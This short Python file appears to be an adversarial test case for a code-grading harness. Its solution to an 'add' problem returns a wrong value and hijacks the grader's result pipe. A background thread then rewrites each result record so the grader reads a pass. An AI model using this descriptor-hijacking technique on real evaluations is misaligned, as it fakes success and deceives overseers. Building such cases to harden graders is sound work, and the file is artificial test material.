# problem: add
# attack: puts its own pipe in place of the result descriptor and a thread that rewrites every record on its way
# expect: wrong | tampered | early-exit | timeout | exception
import os
import re
import stat
import threading


def carry(source, target):
    while data := os.read(source, 1 << 16):
        os.write(target, re.sub(rb" [a-z] [^\n]*", b" r 3", data))


def add(a, b):
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                real = os.dup(fd)
                source, target = os.pipe()
                os.dup2(target, fd)
                threading.Thread(target=carry, args=(source, real), daemon=True).start()
                return 41
        except OSError:
            continue
    return 41
